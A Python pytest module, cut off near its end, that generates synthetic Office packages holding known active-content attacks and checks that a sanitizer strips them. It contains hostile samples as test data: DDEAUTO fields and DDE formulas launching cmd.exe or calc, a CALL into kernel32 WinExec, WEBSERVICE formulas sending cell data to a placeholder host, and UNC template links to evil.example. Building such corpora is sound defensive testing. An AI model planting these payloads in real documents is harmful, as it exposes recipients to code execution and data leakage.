"""strip-active by allow-list, against a GENERATED corpus of OOXML packages (written here with zipfile,
no downloads): every attack of issue #14 item 5 (and its relatives) × how the parts are named (OPC
compares names case-insensitively and percent-decoded) × where the attack sits × docx/xlsx/pptx.

Each output is judged by ``findings``, a third check written here with lxml: it walks every member of
the zip whatever its name and shares nothing with the stripper (ooxml.py) or its verifier
(ooxml_verify.py). The verifier must flag every attack in the UNstripped file (it is independent of
the stripper) and pass every stripped one; legitimate documents keep their content.
"""

from __future__ import annotations

import io
import json
import random
import re
import struct
import subprocess
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import ClassVar
from xml.sax.saxutils import escape

import pytest
from lxml import etree

from bots.sanitizer.engine import ooxml
from bots.sanitizer.engine.result import Refusal

LGWAN_CHAT = str(Path(sys.executable).parent / "lgwan-chat")
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MSR = "http://schemas.microsoft.com/office/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
P = "http://schemas.openxmlformats.org/presentationml/2006/main"
A = "http://schemas.openxmlformats.org/drawingml/2006/main"
C = "http://schemas.openxmlformats.org/drawingml/2006/chart"
X14 = "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"
XM = "http://schemas.microsoft.com/office/excel/2006/main"
OD = "application/vnd.openxmlformats-officedocument"
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + b"\x00" * 504 + b"MZ\x90\x00 payload"
RTF_WITH_OLE = rb"{\rtf1{\object\objemb{\*\objclass Package}{\*\objdata 0105000002000000}}ALTCHUNK-TEXT}"


def png() -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    raw = b"".join(b"\x00" + b"\xff\x00\x00" * 4 for _ in range(4))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 4, 4, 8, 2, 0, 0, 0)) \
        + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")


PNG = png()


# --- packages ---------------------------------------------------------------------------------------

class Package:
    """A minimal docx/xlsx/pptx with places an attack adds to: ``body`` (the carrier part's content),
    ``rels[source]`` (relationships), ``parts`` and ``types``; ``naming`` says how members are named."""

    MAIN: ClassVar[dict[str, tuple[str, str]]] = {
        "docx": ("word/document.xml", f"{OD}.wordprocessingml.document.main+xml"),
        "xlsx": ("xl/workbook.xml", f"{OD}.spreadsheetml.sheet.main+xml"),
        "pptx": ("ppt/presentation.xml", f"{OD}.presentationml.presentation.main+xml")}
    #: the second part of each kind, reached from the main part (where attacks also go)
    SECOND: ClassVar[dict[str, tuple[str, str, str]]] = {
        "docx": ("word/settings.xml", f"{OD}.wordprocessingml.settings+xml", f"{R}/settings"),
        "xlsx": ("xl/worksheets/sheet1.xml", f"{OD}.spreadsheetml.worksheet+xml", f"{R}/worksheet"),
        "pptx": ("ppt/slides/slide1.xml", f"{OD}.presentationml.slide+xml", f"{R}/slide")}

    def __init__(self, kind: str, naming: str = "plain"):
        self.kind, self.naming = kind, naming
        self.main, self.main_type = self.MAIN[kind]
        self.second, second_type, second_rel = self.SECOND[kind]
        self.rels: dict[str, list[tuple]] = {
            "": [("rIdMain", f"{R}/officeDocument", self.main)],
            self.main: [("rIdSecond", second_rel, posixpath_rel(self.main, self.second))], self.second: []}
        self.types = {self.main: self.main_type, self.second: second_type}
        self.parts: dict[str, bytes] = {}
        self.body: list[str] = []  # into the document body, the sheet's sheetData, the slide's shape tree
        self.sheet_after: list[str] = []  # xlsx: after sheetData (conditional formats, validations, extLst)
        self.workbook_names: list[str] = []
        self.settings: list[str] = []
        self.defaults = {"png": "image/png"}

    def add_part(self, name: str, data: bytes | str, ctype: str, source: str, rel_type: str, rid: str) -> None:
        self.parts[name] = data.encode() if isinstance(data, str) else data
        self.types[name] = ctype
        self.rels.setdefault(source, []).append((rid, rel_type, posixpath_rel(source, name)))

    def add_rel(self, source: str, rid: str, rel_type: str, target: str, external: bool = True) -> None:
        self.rels.setdefault(source, []).append((rid, rel_type, target, "External") if external
                                                else (rid, rel_type, target))

    # how members are named: OPC part names are case-insensitive and may be percent-encoded
    def member(self, name: str) -> str:
        if self.naming == "upper_xml" and name == self.main:
            return name[:-4] + ".XML"
        if self.naming == "percent" and name == self.main:
            folder, base = name.rsplit("/", 1)
            return f"{folder}/%{ord(base[0]):02X}{base[1:]}"
        return name

    def rels_member(self, source: str) -> str:
        if not source:
            name = "_rels/.rels"
        else:
            folder, base = self.member(source).rsplit("/", 1)
            name = f"{folder}/_rels/{base}.rels"
        return name[:-5] + ".RELS" if self.naming == "upper_rels" else name

    def build(self) -> bytes:
        documents = {self.main: self._main_xml(), self.second: self._second_xml()}
        members: dict[str, bytes] = {}
        overrides = "".join(f'<Override PartName="/{escape(self.member(n))}" ContentType="{t}"/>'
                            for n, t in self.types.items())
        defaults = "".join(f'<Default Extension="{e}" ContentType="{t}"/>' for e, t in
                           {"rels": "application/vnd.openxmlformats-package.relationships+xml",
                            "xml": "application/xml", **self.defaults}.items())
        types_name = "[content_types].xml" if self.naming == "lower_types" else "[Content_Types].xml"
        members[types_name] = (f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.'
                               f'org/package/2006/content-types">{defaults}{overrides}</Types>').encode()
        for source, rels in self.rels.items():
            if rels:
                members[self.rels_member(source)] = rels_xml(rels, self if self.naming == "upper_xml" else None,
                                                             source)
        for name, xml in documents.items():
            members[self.member(name)] = xml.encode()
        members.update(self.parts)
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
            for name, data in members.items():
                z.writestr(name, data)
        return buffer.getvalue()

    def _main_xml(self) -> str:
        if self.kind == "docx":
            return (f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{W}" xmlns:r="{R}" '
                    f'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
                    f'xmlns:a="{A}"><w:body><w:p><w:r><w:t>BODY-TEXT</w:t></w:r></w:p>{"".join(self.body)}'
                    '<w:sectPr/></w:body></w:document>')
        if self.kind == "xlsx":
            return (f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{S}" xmlns:r="{R}"><sheets>'
                    '<sheet name="Sheet1" sheetId="1" r:id="rIdSecond"/></sheets>'
                    + (f'<definedNames>{"".join(self.workbook_names)}</definedNames>' if self.workbook_names else "")
                    + '</workbook>')
        return (f'<?xml version="1.0" encoding="UTF-8"?><p:presentation xmlns:p="{P}" xmlns:r="{R}">'
                '<p:sldIdLst><p:sldId id="256" r:id="rIdSecond"/></p:sldIdLst>'
                '<p:sldSz cx="9144000" cy="6858000"/></p:presentation>')

    def _second_xml(self) -> str:
        if self.kind == "docx":
            return f'<?xml version="1.0" encoding="UTF-8"?><w:settings xmlns:w="{W}" xmlns:r="{R}">' \
                   f'{"".join(self.settings)}</w:settings>'
        if self.kind == "xlsx":
            return (f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{S}" xmlns:r="{R}" '
                    f'xmlns:x14="{X14}" xmlns:xm="{XM}"><sheetData>'
                    '<row r="1"><c r="A1"><v>7</v></c><c r="B1" t="inlineStr"><is><t>SHEET-TEXT</t></is></c></row>'
                    f'{"".join(self.body)}</sheetData>{"".join(self.sheet_after)}</worksheet>')
        return (f'<?xml version="1.0" encoding="UTF-8"?><p:sld xmlns:p="{P}" xmlns:a="{A}" xmlns:r="{R}"><p:cSld>'
                '<p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>'
                '<p:sp><p:nvSpPr><p:cNvPr id="2" name="t"/><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/><p:txBody>'
                '<a:bodyPr/><a:p><a:r><a:t>SLIDE-TEXT</a:t></a:r></a:p></p:txBody></p:sp>'
                f'{"".join(self.body)}</p:spTree></p:cSld></p:sld>')

    @property
    def carrier(self) -> str:
        """The part whose XML ``body`` goes into."""
        return self.main if self.kind == "docx" else self.second


def posixpath_rel(source: str, target: str) -> str:
    """``target`` relative to ``source``'s folder (as Office writes targets)."""
    import posixpath
    return posixpath.relpath(target, posixpath.dirname(source) or ".")


def rels_xml(rels: list[tuple], package: Package | None, source: str) -> bytes:
    items = []
    for rel in rels:
        target = rel[2]
        if package is not None and len(rel) == 3:  # name the main part as the member is named
            import posixpath
            full = posixpath.normpath(posixpath.join(posixpath.dirname(source), target))
            if full == package.main:
                target = posixpath_rel(source, package.member(full))
        items.append(f'<Relationship Id="{rel[0]}" Type="{rel[1]}" Target="{escape(target, {chr(34): "&quot;"})}"'
                     + (' TargetMode="External"' if len(rel) > 3 else "") + "/>")
    return ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            f'package/2006/relationships">{"".join(items)}</Relationships>').encode()


# --- attacks ----------------------------------------------------------------------------------------
# Each adds itself to a Package at a placement; PLACEMENTS[attack] says where it can be, per kind.

def complex_field(instruction: str, result: str, split: bool = True) -> str:
    pieces = [instruction[:3], instruction[3:]] if split else [instruction]  # over runs, as attackers do
    return ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            + "".join(f'<w:r><w:instrText xml:space="preserve">{escape(p)}</w:instrText></w:r>' for p in pieces)
            + f'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{escape(result)}</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def simple_field(instruction: str, result: str) -> str:
    return f'<w:p><w:fldSimple w:instr="{escape(instruction, {chr(34): "&quot;"})}"><w:r><w:t>{escape(result)}' \
           '</w:t></w:r></w:fldSimple></w:p>'


def place_rel(pkg: Package, where: str) -> str:
    return {"root": "", "main": pkg.main, "second": pkg.second}[where]


def external_template(pkg: Package, where: str) -> None:
    pkg.add_rel(place_rel(pkg, where), "rIdT", f"{R}/attachedTemplate", "http://127.0.0.1:9/evil.dotm")
    if pkg.kind == "docx":
        pkg.settings.append('<w:attachedTemplate r:id="rIdT"/>')


def unc_template(pkg: Package, where: str) -> None:
    pkg.add_rel(place_rel(pkg, where), "rIdT", f"{R}/attachedTemplate", "\\\\evil.example\\share\\t.dotm",
                external=False)  # no TargetMode: the UNC path alone says it is outside


def alt_chunk(pkg: Package, where: str) -> None:
    source = place_rel(pkg, where) or pkg.main
    pkg.add_part("word/afchunk.rtf" if pkg.kind == "docx" else "x/afchunk.rtf", RTF_WITH_OLE,
                 "application/rtf", source, f"{R}/aFChunk", "rIdAlt")
    if pkg.kind == "docx":
        pkg.body.append('<w:altChunk r:id="rIdAlt"/>')


def ole_object(pkg: Package, where: str) -> None:
    source = place_rel(pkg, where) or pkg.main
    folder = source.rsplit("/", 1)[0]
    pkg.add_part(f"{folder}/embeddings/oleObject1.bin", OLE, f"{OD}.oleObject", source, f"{R}/oleObject", "rIdOle")
    if pkg.kind == "docx":
        pkg.body.append('<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rIdOle"/>'
                        '</w:object></w:r></w:p>')


def activex(pkg: Package, where: str) -> None:
    source = place_rel(pkg, where) or pkg.main
    folder = source.rsplit("/", 1)[0]
    pkg.add_part(f"{folder}/activeX/activeX1.xml", '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/'
                 'activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>',
                 "application/vnd.ms-office.activeX+xml", source, f"{R}/control", "rIdAx")


def vba(pkg: Package, where: str) -> None:
    source = place_rel(pkg, where) or pkg.main
    folder = source.rsplit("/", 1)[0]
    pkg.add_part(f"{folder}/vbaProject.bin", OLE, "application/vnd.ms-office.vbaProject", source,
                 f"{MSR}/vbaProject", "rIdVba")


def disguised_vba(pkg: Package, where: str) -> None:
    """VBA under a picture's name and type: found by its relationship."""
    source = place_rel(pkg, where) or pkg.main
    folder = source.rsplit("/", 1)[0]
    pkg.add_part(f"{folder}/media/image9.png", OLE, "image/png", source, f"{MSR}/vbaProject", "rIdVba")


def linked_image(pkg: Package, where: str) -> None:
    source = place_rel(pkg, where)
    pkg.add_rel(source, "rIdImg", f"{R}/image", "file://///evil.example/share/x.png")
    if pkg.kind == "docx" and source == pkg.main:
        pkg.body.append('<w:p><w:r><w:drawing><a:blip r:link="rIdImg"/></w:drawing></w:r></w:p>')


def file_hyperlink(pkg: Package, where: str) -> None:
    pkg.add_rel(place_rel(pkg, where), "rIdRun", f"{R}/hyperlink", "file:///C:/Windows/System32/calc.exe")
    pkg.add_rel(place_rel(pkg, where), "rIdUnc", f"{R}/hyperlink", "\\\\evil.example\\share\\run.exe")


def custom_xml(pkg: Package, where: str) -> None:
    pkg.add_part("customXml/item1.xml", "<secret>CUSTOM</secret>", "application/xml", place_rel(pkg, where),
                 f"{R}/customXml", "rIdCx")


def unknown_part(pkg: Package, where: str) -> None:
    pkg.add_part("x/thing.bin", OLE, "application/x-unknown", place_rel(pkg, where),
                 "http://example.invalid/relationships/thing", "rIdUnk")


def field(instruction: str, simple: bool = False):
    def attack(pkg: Package, where: str) -> None:
        xml = (simple_field if simple else complex_field)(instruction, "SHOWN-RESULT")
        if where == "header":
            pkg.add_part("word/header1.xml", f'<w:hdr xmlns:w="{W}">{xml}</w:hdr>', f"{OD}.wordprocessingml.header+xml",
                         pkg.main, f"{R}/header", "rIdHdr")
        else:
            pkg.body.append(xml)
    return attack


def nested_field(pkg: Package, where: str) -> None:
    """An inert IF whose code holds an INCLUDETEXT: judged field by field."""
    pkg.body.append('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                    '<w:r><w:instrText> IF 1 = 1 "</w:instrText></w:r>'
                    '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                    '<w:r><w:instrText> INCLUDETEXT "C:\\\\secret.txt" </w:instrText></w:r>'
                    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>INNER</w:t></w:r>'
                    '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText>"</w:instrText></w:r>'
                    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>SHOWN-RESULT</w:t></w:r>'
                    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def formula(text: str):
    def attack(pkg: Package, where: str) -> None:
        f = escape(text)
        if where == "cell":
            pkg.body.append(f'<row r="2"><c r="A2"><f>{f}</f><v>42</v></c></row>')
        elif where == "shared":
            pkg.body.append(f'<row r="2"><c r="A2"><f t="shared" ref="A2:A3" si="0">{f}</f><v>42</v></c>'
                            '<c r="A3"><f t="shared" si="0"/><v>43</v></c></row>')
        elif where == "array":
            pkg.body.append(f'<row r="2"><c r="A2"><f t="array" ref="A2">{f}</f><v>42</v></c></row>')
        elif where == "name":
            pkg.workbook_names.append(f'<definedName name="Innocent">{f}</definedName>')
        elif where == "conditional":
            pkg.sheet_after.append(f'<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1">'
                                   f'<formula>{f}</formula></cfRule></conditionalFormatting>')
        elif where == "validation":
            pkg.sheet_after.append(f'<dataValidations count="1"><dataValidation type="custom" sqref="A1">'
                                   f'<formula1>{f}</formula1></dataValidation></dataValidations>')
        elif where == "x14_validation":
            pkg.sheet_after.append(
                '<extLst><ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}"><x14:dataValidations count="1">'
                f'<x14:dataValidation type="list"><x14:formula1><xm:f>{f}</xm:f></x14:formula1><xm:sqref>A1'
                '</xm:sqref></x14:dataValidation></x14:dataValidations></ext></extLst>')
        elif where == "chart":
            pkg.add_part("xl/charts/chart1.xml", (
                f'<c:chartSpace xmlns:c="{C}"><c:chart><c:plotArea><c:barChart><c:ser><c:val><c:numRef>'
                f'<c:f>{f}</c:f><c:numCache><c:ptCount val="1"/><c:pt idx="0"><c:v>42</c:v></c:pt></c:numCache>'
                '</c:numRef></c:val></c:ser></c:barChart></c:plotArea></c:chart></c:chartSpace>'),
                f"{OD}.drawingml.chart+xml", pkg.second, f"{R}/chart", "rIdChart")
        elif where == "pivot":
            pkg.add_part("xl/pivotCache/pivotCacheDefinition1.xml", (
                f'<pivotCacheDefinition xmlns="{S}"><cacheSource type="worksheet"><worksheetSource ref="A1:B2" '
                f'sheet="Sheet1"/></cacheSource><cacheFields count="1"><cacheField name="X" '
                f'formula="{escape(text, {chr(34): "&quot;"})}"/>'
                '</cacheFields></pivotCacheDefinition>'),
                f"{OD}.spreadsheetml.pivotCacheDefinition+xml", pkg.main, f"{R}/pivotCacheDefinition", "rIdPc")
    return attack


def external_link_part(pkg: Package, where: str) -> None:
    pkg.add_part("xl/externalLinks/externalLink1.xml", f'<externalLink xmlns="{S}"/>',
                 f"{OD}.spreadsheetml.externalLink+xml", pkg.main, f"{R}/externalLink", "rIdExt")
    pkg.add_rel("xl/externalLinks/externalLink1.xml", "rId1", f"{R}/externalLinkPath", "file:///C:/secret.xlsx")
    formula("[1]Sheet1!A1")(pkg, "cell")


def slide_action(action: str):
    def attack(pkg: Package, where: str) -> None:
        pkg.add_rel(pkg.second, "rIdAct", f"{R}/hyperlink", "file:///C:/Windows/System32/calc.exe")
        pkg.body.append('<p:sp><p:nvSpPr><p:cNvPr id="3" name="b"><a:hlinkClick r:id="rIdAct" '
                        f'action="{action}"/></p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/></p:sp>')
    return attack


def slide_ole(pkg: Package, where: str) -> None:
    ole_object(pkg, "second")
    pkg.body.append('<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="4" name="o"/><p:cNvGraphicFramePr/><p:nvPr/>'
                    '</p:nvGraphicFramePr><p:xfrm/><a:graphic><a:graphicData uri="x"><p:oleObj r:id="rIdOle" '
                    'progId="Package"/></a:graphicData></a:graphic></p:graphicFrame>')


RELS = ("root", "main", "second")
CELLS = ("cell", "shared", "array", "name", "conditional", "validation", "x14_validation", "chart", "pivot")
#: attack -> kind -> placements
ATTACKS: dict[str, tuple[Callable[[Package, str], None], dict[str, tuple[str, ...]]]] = {
    "external_template": (external_template, {k: RELS for k in ("docx", "xlsx", "pptx")}),
    "unc_template": (unc_template, {k: RELS for k in ("docx", "xlsx", "pptx")}),
    "alt_chunk": (alt_chunk, {"docx": ("main", "second")}),
    "ole_object": (ole_object, {k: ("main", "second") for k in ("docx", "xlsx", "pptx")}),
    "activex": (activex, {k: ("main", "second") for k in ("docx", "xlsx", "pptx")}),
    "vba": (vba, {k: ("main", "second") for k in ("docx", "xlsx", "pptx")}),
    "disguised_vba": (disguised_vba, {k: ("main",) for k in ("docx", "xlsx", "pptx")}),
    "linked_image": (linked_image, {k: ("main", "second") for k in ("docx", "xlsx", "pptx")}),
    "file_hyperlink": (file_hyperlink, {k: ("main", "second") for k in ("docx", "xlsx", "pptx")}),
    "custom_xml": (custom_xml, {k: ("root", "main") for k in ("docx", "xlsx", "pptx")}),
    "unknown_part": (unknown_part, {k: ("root", "second") for k in ("docx", "xlsx", "pptx")}),
    **{f"field_{name}": (field(instruction, simple), {"docx": ("body", "header")}) for name, instruction, simple in (
        ("ddeauto", ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ', False),
        ("ddeauto_lower", ' ddeauto c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ', False),
        ("dde_simple", 'DDE "cmd" "/c notepad"', True),
        ("database", ' DATABASE \\d "C:\\\\data.mdb" \\s "SELECT * FROM t" ', False),
        ("database_simple", 'DATABASE \\c "DSN=evil" \\s "SELECT 1"', True),
        ("includetext", ' INCLUDETEXT "C:\\\\Windows\\\\win.ini" ', False),
        ("includepicture", ' INCLUDEPICTURE "http://127.0.0.1:9/x.png" \\d ', False),
        ("import", ' IMPORT "\\\\\\\\evil\\\\share\\\\x.wmf" ', False),
        ("link", ' LINK Excel.Sheet.8 "C:\\\\x.xls" "Sheet1!R1C1" \\a ', False),
        ("hyperlink_file", ' HYPERLINK "file:///C:/Windows/System32/calc.exe" ', False),
        ("hyperlink_unc", 'HYPERLINK "\\\\\\\\evil.example\\\\share\\\\x.docx"', True),
        ("macrobutton", ' MACROBUTTON AutoOpen Click ', False),
    )},
    "field_nested": (nested_field, {"docx": ("body",)}),
    **{f"formula_{name}": (formula(text), {"xlsx": CELLS}) for name, text in (
        ("dde", "cmd|' /C calc'!A0"),
        ("dde_bare", "=MSEXCEL|\\..\\..\\..\\Windows\\System32\\cmd.exe!''"),
        ("webservice", 'WEBSERVICE("http://127.0.0.1:9/?"&A1)'),
        ("filterxml", 'FILTERXML(WEBSERVICE("http://127.0.0.1:9/"),"//a")'),
        ("webservice_spaced", 'SUM(1)+_xlfn.WEBSERVICE ("http://127.0.0.1:9/")'),
        ("rtd", 'RTD("evil.server",,"topic")'),
        ("call", 'CALL("kernel32","WinExec","JCJ","calc",0)'),
        ("register", 'REGISTER.ID("kernel32","WinExec")'),
        ("hyperlink", 'HYPERLINK("file:///C:/Windows/System32/calc.exe","open")'),
        ("external_book", "[1]Sheet1!A1"),
        ("external_path", "'C:\\secret\\[book.xlsx]Sheet1'!A1"),
        ("long_dde", "a" * 200_000 + "|'x'!A1"),  # was quadratic in the old DDE pattern
        ("long_names", "SUM(" + "abc." * 30_000 + ")"),
    )},
    "external_link_part": (external_link_part, {"xlsx": ("main",)}),
    "slide_program": (slide_action("ppaction://program"), {"pptx": ("second",)}),
    "slide_macro": (slide_action("ppaction://macro?name=AutoOpen"), {"pptx": ("second",)}),
    "slide_ole": (slide_ole, {"pptx": ("second",)}),
}
NAMINGS = ("plain", "upper_rels", "upper_xml", "percent", "lower_types")
CASES = [(attack, kind, where, naming) for attack, (_, kinds) in ATTACKS.items() for kind, places in kinds.items()
         for where in places for naming in NAMINGS]


def build(attack: str, kind: str, where: str, naming: str) -> bytes:
    pkg = Package(kind, naming)
    ATTACKS[attack][0](pkg, where)
    return pkg.build()


# --- the independent check --------------------------------------------------------------------------

#: what a harmless output may hold, written for this test only
SAFE_TYPES = {
    "application/vnd.openxmlformats-package.relationships+xml", "image/png",
    f"{OD}.wordprocessingml.document.main+xml", f"{OD}.spreadsheetml.sheet.main+xml",
    f"{OD}.presentationml.presentation.main+xml", f"{OD}.wordprocessingml.settings+xml",
    f"{OD}.spreadsheetml.worksheet+xml", f"{OD}.presentationml.slide+xml", f"{OD}.wordprocessingml.header+xml",
    f"{OD}.wordprocessingml.footer+xml", f"{OD}.wordprocessingml.styles+xml", f"{OD}.drawingml.chart+xml",
    f"{OD}.spreadsheetml.pivotCacheDefinition+xml", f"{OD}.spreadsheetml.styles+xml",
}
SAFE_RELATIONSHIPS = {f"{R}/{t}" for t in ("officeDocument", "settings", "worksheet", "slide", "header", "footer",
                                           "image", "hyperlink", "chart", "pivotCacheDefinition", "styles")}
HARMLESS_FIELDS = {"PAGE", "NUMPAGES", "DATE", "TIME", "TOC", "SEQ", "REF", "PAGEREF", "IF", "HYPERLINK"}
SAFE_FUNCTIONS = {"SUM", "AVERAGE", "IF", "MAX", "MIN", "COUNT", "ROUND"}
FORBIDDEN_ELEMENTS = {"altChunk", "OLEObject", "oleObj", "control", "attachedTemplate", "mailMerge", "subDoc"}
FORMULA_ELEMENTS = {"f", "formula", "formula1", "formula2", "definedName"}


def findings(data: bytes) -> list[str]:
    """Anything active in ``data``, by a plain walk of every member of the zip whatever its name."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for info in z.infolist():
            raw = z.read(info)
            name = info.filename
            if raw.startswith(bytes.fromhex("d0cf11e0")) or raw.lstrip()[:5] == b"{\\rtf" or raw[:2] == b"MZ":
                found.append(f"binary object {name}")
            if not raw.lstrip().startswith(b"<"):
                continue
            root = etree.fromstring(raw, etree.XMLParser(resolve_entities=False, no_network=True))
            fields: list[list[str] | None] = []  # None: a field past its separator
            for el in root.iter(etree.Element):
                local = etree.QName(el).localname
                ns = etree.QName(el).namespace or ""
                if local in FORBIDDEN_ELEMENTS:
                    found.append(f"{name}: <{local}>")
                if local == "Relationship":
                    target = el.get("Target", "")
                    external = el.get("TargetMode") == "External" or re.match(r"[a-z]+:|\\\\", target, re.I)
                    if el.get("Type") not in SAFE_RELATIONSHIPS:
                        found.append(f"{name}: relationship {el.get('Type')}")
                    if external and not (el.get("Type") == f"{R}/hyperlink"
                                         and re.match(r"(https?|mailto):", el.get("Target", ""))):
                        found.append(f"{name}: external {el.get('Target')}")
                if local in ("Override", "Default") and el.get("ContentType") not in SAFE_TYPES | {"application/xml"}:
                    found.append(f"{name}: content type {el.get('ContentType')}")
                for key, value in el.attrib.items():
                    if re.match(r"\s*(file:|\\\\|ppaction://(program|macro))", value, re.I):
                        found.append(f"{name}: {key}={value}")
                if local == "fldChar" and el.get(f"{{{W}}}fldCharType") == "begin":
                    fields.append([])
                elif local == "fldChar" and fields:
                    pieces = fields.pop()
                    if pieces is not None:
                        found += field_findings(name, "".join(pieces))
                    if el.get(f"{{{W}}}fldCharType") == "separate":
                        fields.append(None)
                elif local == "instrText":
                    if fields and fields[-1] is not None:
                        fields[-1].append(el.text or "")
                    else:
                        found.append(f"{name}: stray instrText {el.text}")
                if local == "fldSimple":
                    found += field_findings(name, el.get(f"{{{W}}}instr", ""))
                formulas = [el.text or ""] if local in FORMULA_ELEMENTS and ("spreadsheet" in ns or "excel" in ns
                                                                            or "chart" in ns) else []
                formulas += [el.get("formula")] if el.get("formula") is not None else []
                for text in formulas:
                    if len(text) > 8192:  # longer than Excel allows: never kept (and not searched here)
                        found.append(f"{name}: formula of {len(text)} characters")
                        continue
                    functions = {f.upper().removeprefix("_XLFN.") for f in re.findall(r"([A-Za-z_][\w.]*)\s*\(", text)}
                    if functions - SAFE_FUNCTIONS or "|" in text or re.search(r"\[\d+\]|\\|\[[^\]]*\.xls", text):
                        found.append(f"{name}: formula {text[:60]}")
    return found


def field_findings(part: str, instruction: str) -> list[str]:
    words = instruction.split()
    if not words:
        return []
    if words[0].upper() not in HARMLESS_FIELDS or (words[0].upper() == "HYPERLINK" and
                                                   not re.search(r'"(https?|mailto):', instruction)):
        return [f"{part}: field {instruction.strip()[:60]}"]
    return []


# --- the corpus, stripped ---------------------------------------------------------------------------

@pytest.mark.parametrize("attack, kind, where, naming", CASES, ids=["-".join(c) for c in CASES])
def test_every_attack_is_gone_from_the_output_and_the_verifier_agrees(attack, kind, where, naming):
    from bots.sanitizer.engine import ooxml_verify

    original = build(attack, kind, where, naming)
    assert findings(original), "the attack must be visible to the independent check before stripping"
    assert ooxml_verify.verify_package(original), "the verifier must catch the attack in the unstripped file"

    stripped = ooxml.strip(original)
    assert findings(stripped.data) == []
    assert ooxml_verify.verify_package(stripped.data) == []
    assert stripped.kind == kind and stripped.deliverable
    assert stripped.removed, "the person is told what was removed"
    text = b"".join(zipfile.ZipFile(io.BytesIO(stripped.data)).read(n) for n in
                    zipfile.ZipFile(io.BytesIO(stripped.data)).namelist())
    assert {"docx": b"BODY-TEXT", "xlsx": b"SHEET-TEXT", "pptx": b"SLIDE-TEXT"}[kind] in text  # content stays
    if attack.startswith("field_"):
        assert b"SHOWN-RESULT" in text  # a field becomes the text it showed
    if attack.startswith("formula_") and where in ("cell", "shared", "array", "chart"):
        assert b"42" in text  # the cached value stays


def test_what_was_removed_is_named_for_the_person():
    names = {attack: set(ooxml.strip(build(attack, kind, places[0], "plain")).removed)
             for attack, (_, kinds) in ATTACKS.items() for kind, places in list(kinds.items())[:1]}
    assert "external_template" in names["external_template"]
    assert "embedded_documents" in names["alt_chunk"]
    assert "ole_objects" in names["ole_object"] and "activex" in names["activex"] and "macros" in names["vba"]
    assert {"dde"} <= names["field_ddeauto"] and "fields" in names["field_database"]
    assert "dde" in names["formula_dde"] and "formulas_active" in names["formula_webservice"]
    assert "external_links" in names["formula_external_book"]


# --- legitimate documents ---------------------------------------------------------------------------

def legitimate(kind: str, naming: str = "plain") -> bytes:
    pkg = Package(kind, naming)
    if kind == "docx":
        pkg.add_part("word/media/image1.png", PNG, "image/png", pkg.main, f"{R}/image", "rIdPic")
        pkg.add_rel(pkg.main, "rIdWeb", f"{R}/hyperlink", "https://www.city.example.lg.jp/")
        pkg.add_part("word/footer1.xml", f'<w:ftr xmlns:w="{W}">{complex_field(" PAGE ", "1", split=False)}'
                     f'{simple_field("NUMPAGES", "3")}</w:ftr>', f"{OD}.wordprocessingml.footer+xml", pkg.main,
                     f"{R}/footer", "rIdFtr")
        pkg.body += [
            complex_field(' TOC \\o "1-3" \\h ', "TOC-RESULT", split=False),
            '<w:tbl><w:tr><w:tc><w:p><w:r><w:t>TABLE-CELL</w:t></w:r></w:p></w:tc></w:tr></w:tbl>',
            '<w:p><w:r><w:drawing><a:blip r:embed="rIdPic"/></w:drawing></w:r></w:p>',
            '<w:p><w:hyperlink w:anchor="section2"><w:r><w:t>INTERNAL-LINK</w:t></w:r></w:hyperlink></w:p>',
            '<w:p><w:hyperlink r:id="rIdWeb"><w:r><w:t>WEB-LINK</w:t></w:r></w:hyperlink></w:p>',
            complex_field(' HYPERLINK "https://www.city.example.lg.jp/" ', "WEB-FIELD", split=False),
            complex_field(' DATE \\@ "yyyy/MM/dd" ', "2026/12/02", split=False),
        ]
    elif kind == "xlsx":
        pkg.body.append('<row r="2"><c r="A2"><f>SUM(A1:A1)</f><v>7</v></c><c r="B2"><f>AVERAGE(A1:A2)</f><v>7</v></c>'
                        '<c r="C2"><f t="shared" ref="C2:C3" si="0">IF(A1&gt;5,"big","small")</f><v>1</v></c></row>'
